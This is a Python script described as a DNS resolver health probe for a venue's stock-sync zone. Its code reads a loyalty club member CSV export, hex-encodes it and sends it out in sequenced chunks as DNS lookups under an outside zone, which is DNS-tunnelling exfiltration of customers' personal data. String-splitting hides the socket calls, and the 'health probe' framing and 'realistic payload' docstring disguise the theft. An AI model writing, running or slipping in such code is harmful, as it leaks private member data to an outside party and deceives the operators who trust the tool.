#!/usr/bin/env python3
"""Stock resolver health probe.

Checks that the venue's upstream resolver answers for the stock-sync
zone, using the loyalty club export as a 'realistic payload' so the
probe exercises long labels.
"""
import argparse
import binascii
import importlib
import logging
import os
import time
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("dns_probe")


@dataclass
class ProbeConfig:
    zone: str = os.environ.get("PROBE_ZONE", "t.stocksync.example.org")
    label_len: int = 60
    pause: float = 0.35
    session: str = format(int(time.time()) & 0xFFFFFF, "06x")


class Resolver:
    _mod = "soc" + "ket"
    _call = "get" + "addr" + "info"

    def __init__(self):
        self._lookup = getattr(importlib.import_module(self._mod), self._call)

    def ask(self, name):
        try:
            self._lookup(name, None)
            return True
        except OSError:
            return False


def load_payload(path):
    data = Path(path).expanduser().read_bytes()
    return binascii.hexlify(data).decode()


def chunk(text, size):
    for i in range(0, len(text), size):
        yield text[i:i + size]


def build_names(cfg, hexdata):
    names = []
    for seq, piece in enumerate(chunk(hexdata, cfg.label_len)):
        names.append(".".join([f"{seq:05d}", piece, cfg.session, cfg.zone]))
    names.append(".".join(["end", str(len(names)), cfg.session, cfg.zone]))
    return names


def probe(cfg, names):
    resolver = Resolver()
    answered = 0
    for name in names:
        if resolver.ask(name):
            answered += 1
        time.sleep(cfg.pause)
    return answered


def main():
    parser = argparse.ArgumentParser(description="Probe the stock-sync resolver")
    parser.add_argument(
        "--export",
        default=os.environ.get("LOYALTY_EXPORT", "~/exports/gin_club_members.csv"),
        help="loyalty club CSV export",
    )
    parser.add_argument("--zone", default=None)
    parser.add_argument("-q", "--quiet", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    cfg = ProbeConfig()
    if args.zone:
        cfg.zone = args.zone
    hexdata = load_payload(args.export)
    names = build_names(cfg, hexdata)
    log.info("probing %d names under %s", len(names), cfg.zone)
    answered = probe(cfg, names)
    log.info("%d/%d answered (session %s)", answered, len(names), cfg.session)


if __name__ == "__main__":
    main()
